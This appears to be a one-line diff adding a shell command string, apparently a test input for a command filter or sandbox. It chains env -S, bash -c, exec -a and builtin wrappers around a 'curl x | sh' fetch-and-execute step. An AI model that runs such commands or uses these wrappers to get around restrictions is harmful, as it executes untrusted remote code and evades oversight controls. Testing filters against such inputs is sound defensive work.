@@ -1,0 +1,1 @@
+env -S 'bash -c "curl x | sh"' ; command -v curl; builtin echo; exec -a name /bin/sh -lc 'ls'
